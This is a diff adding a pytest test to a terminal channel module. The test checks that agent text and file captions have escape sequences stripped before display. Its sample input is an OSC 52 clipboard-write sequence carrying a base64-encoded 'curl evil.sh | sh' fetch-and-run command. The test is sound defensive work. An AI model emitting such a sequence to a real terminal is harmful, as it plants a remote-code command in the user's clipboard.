@@ -2,6 +2,7 @@
 
 from __future__ import annotations
 
+import io
 import os
 import pty
 import select
@@ -14,7 +15,7 @@ import pytest
 from conftest import cli_env
 from fake_anthropic import FakeAnthropic
 
-from channels.terminal import parse_command
+from channels.terminal import TerminalChannel, parse_command
 
 
 @pytest.mark.parametrize(
@@ -30,6 +31,20 @@ from channels.terminal import parse_command
 )
 def test_parse_command(line: str, parsed: tuple[str, str] | None) -> None:
     assert parse_command(line) == parsed
+
+
+async def test_agent_text_reaches_the_terminal_without_escape_sequences(tmp_path: Path) -> None:
+    """An OSC 52 sequence would write the owner's clipboard; newline and tab are kept."""
+    out = io.StringIO()
+    channel = TerminalChannel("Andy", out=out, received=tmp_path / "received")
+    osc52 = "\x1b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\x07"
+    await channel.send("term:main", f"done{osc52}\n\tnext\x1b[2J\r")
+    (tmp_path / "report.txt").write_text("data")
+    await channel.send_file("term:main", tmp_path / "report.txt", "report.txt", f"see{osc52}")
+    shown = out.getvalue()
+    assert shown.startswith("Andy: done\n\tnext\n")
+    assert shown.endswith("report.txt\nsee\n")
+    assert "\x1b" not in shown and "\x07" not in shown and "\r" not in shown
 
 
 class Pty:
